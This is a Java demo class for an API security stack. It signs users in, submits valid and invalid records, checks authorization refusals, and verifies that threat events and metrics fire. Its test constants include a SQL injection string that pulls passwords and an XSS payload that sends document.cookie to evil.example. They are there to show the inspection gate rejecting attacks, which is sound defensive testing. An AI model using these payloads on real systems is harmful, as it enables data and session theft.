package dev.rampart.local.demo;

import com.fasterxml.jackson.databind.JsonNode;
import dev.rampart.local.client.ApiClient;
import dev.rampart.local.client.ApiClient.Answer;
import dev.rampart.local.client.TokenClient;
import dev.rampart.local.identity.client.SignInException;
import dev.rampart.local.stack.instance.Instance;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;

/** The tour: an honest client, a clumsy one, a hostile one, and what the security team sees. */
public final class Demo implements AutoCloseable {
  /** Long enough for the first start of a function on a busy machine. */
  private static final Duration TIMEOUT = Duration.ofSeconds(90);

  /** More than the template's threshold for one source. */
  private static final int ATTACKS = 8;

  private static final String HONEST =
      """
      {"title": "O'Brien's roof leaks", "description": "Select a plumber from the list; a < b & c.",
       "category": "bug", "contactEmail": "ann@example.com", "tags": ["roof"]}
      """;
  private static final String INVALID =
      """
      {"title": "", "description": "x", "category": "weather", "contactEmail": "nobody", "id": "1"}
      """;
  private static final String HOSTILE =
      """
      {"title": "Hello", "description": "' UNION SELECT password FROM users WHERE '1'='1' --",
       "category": "bug", "contactEmail": "ann@example.com"}
      """;
  private static final String SCRIPT =
      """
      {"title": "<script>fetch('//evil.example/'+document.cookie)</script>", "description": "Hi",
       "category": "bug", "contactEmail": "ann@example.com"}
      """;

  private final Instance instance;
  private final Report report;
  private final ApiClient api;
  private final Subscriber subscriber;

  private Demo(Instance instance, Report report, Subscriber subscriber) {
    this.instance = instance;
    this.report = report;
    this.api = new ApiClient(instance.baseUrl());
    this.subscriber = subscriber;
  }

  /**
   * Runs the tour against a running instance.
   *
   * @throws IOException if the instance does not answer
   */
  public static void run(Instance instance, Report report)
      throws IOException, InterruptedException, SignInException {
    try (Subscriber subscriber = Subscriber.to(instance);
        Demo demo = new Demo(instance, report, subscriber)) {
      demo.tour();
    }
  }

  private void tour() throws IOException, InterruptedException, SignInException {
    report.chapter("An honest client");
    DemoUser ann = signIn("ann", "rampart/submissions.read", "rampart/submissions.write");
    String id = honest(ann);
    report.chapter("Refused, and by which gate");
    clumsy(ann, id);
    hostile(ann);
    report.chapter("A reviewer decides");
    review(ann, id);
    report.chapter("What the security team sees");
    security();
  }

  private DemoUser signIn(String name, String... scopes) throws SignInException {
    Instance.User user = instance.user(name);
    String token = new TokenClient(instance).token(user, List.of(scopes));
    report.step("sign in as " + name + " (code, PKCE, one-time code)", !token.isEmpty(), 200, "");
    return new DemoUser(api, token, instance.apiKey());
  }

  private String honest(DemoUser ann) throws IOException, InterruptedException {
    String key = UUID.randomUUID().toString();
    Answer created = ann.submit(key, HONEST);
    String id = created.body().path("id").asText();
    expect("submit", created, 201, "", !id.isEmpty());
    Answer again = ann.submit(key, HONEST);
    expect(
        "submit again with the same key: the first answer",
        again,
        201,
        "",
        again.body().equals(created.body()));
    Answer read = ann.get("/v1/submissions/" + id);
    expect(
        "read it back, text unchanged",
        read,
        200,
        "",
        read.body().path("title").asText().equals("O'Brien's roof leaks"));
    Answer list = ann.get("/v1/submissions");
    expect("list the own ones", list, 200, "", list.body().toString().contains(id));
    awaitEvent("its event on the bus: SubmissionReceived", "SubmissionReceived", id);
    return id;
  }

  private void clumsy(DemoUser ann, String id)
      throws IOException, InterruptedException, SignInException {
    Answer nobody = api.send("GET", "/v1/submissions", Map.of("x-api-key", ann.apiKey()), "");
    expect("without a token", nobody, 401, "token", true);
    Answer noKey =
        api.send("GET", "/v1/submissions", Map.of("Authorization", "Bearer " + ann.token()), "");
    expect("without an API key", noKey, 403, "plan", true);
    expect("a path that does not exist", ann.get("/v1/secrets"), 404, "edge", true);
    Answer invalid = ann.submit(UUID.randomUUID().toString(), INVALID);
    int faults = invalid.body().path("errors").size();
    expect(
        "an invalid submission: " + faults + " faults at once", invalid, 400, "input", faults > 2);
    Answer missing = ann.submit(UUID.randomUUID().toString(), "{}");
    expect("a body without what every submission has", missing, 400, "schema", true);
    DemoUser bob = signIn("bob", "rampart/submissions.read");
    expect("another's submission", bob.get("/v1/submissions/" + id), 404, "domain", true);
    Answer write = bob.submit(UUID.randomUUID().toString(), HONEST);
    expect("writing with a token for reading", write, 403, "token", true);
  }

  private void hostile(DemoUser ann) throws IOException, InterruptedException {
    for (int i = 0; i < ATTACKS; i++) {
      boolean script = i % 2 == 1;
      Answer refused = ann.submit(UUID.randomUUID().toString(), script ? SCRIPT : HOSTILE);
      if (i < 2) {
        String what = script ? "a script in the title" : "SQL in the description";
        expect(what, refused, 422, "inspection", true);
      }
    }
  }

  private void review(DemoUser ann, String id)
      throws IOException, InterruptedException, SignInException {
    String path = "/v1/submissions/" + id + "/review";
    String accept = "{\"decision\": \"accept\", \"reason\": \"A real leak.\"}";
    expect("ann may not review", ann.post(path, Map.of(), accept), 403, "token", true);
    DemoUser rita = signIn("rita", "rampart/submissions.review");
    Answer reviewed = rita.post(path, Map.of(), accept);
    expect(
        "rita accepts it",
        reviewed,
        200,
        "",
        reviewed.body().path("status").asText().equals("accepted"));
    awaitEvent("its event on the bus: SubmissionReviewed", "SubmissionReviewed", id);
  }

  private void security() throws IOException, InterruptedException {
    awaitEvent("the signals: SuspiciousRequest", "SuspiciousRequest", "INJECTION_SQL");
    Optional<JsonNode> threat =
        subscriber.await(event -> type(event).equals("ThreatDetected"), TIMEOUT);
    report.step("the finding: ThreatDetected", threat.isPresent(), 0, "");
    threat.ifPresent(event -> report.remark(event.path("detail").path("explanation").asText()));
    try (MetricsReader metrics = new MetricsReader(instance)) {
      report.step("the metric ThreatsDetected", metrics.rises("ThreatsDetected", TIMEOUT), 0, "");
    }
  }

  private void awaitEvent(String name, String type, String text)
      throws IOException, InterruptedException {
    Optional<JsonNode> event =
        subscriber.await(e -> type(e).equals(type) && e.toString().contains(text), TIMEOUT);
    report.step(name, event.isPresent(), 0, "");
  }

  private static String type(JsonNode event) {
    return event.path("detail-type").asText();
  }

  private void expect(String name, Answer answer, int status, String gate, boolean more) {
    boolean ok = answer.status() == status && answer.gate().equals(gate) && more;
    report.step(name, ok, answer.status(), answer.gate());
    if (!ok) {
      report.remark("expected " + status + " " + gate + ", got: " + answer.body());
    }
  }

  @Override
  public void close() {
    api.close();
  }
}
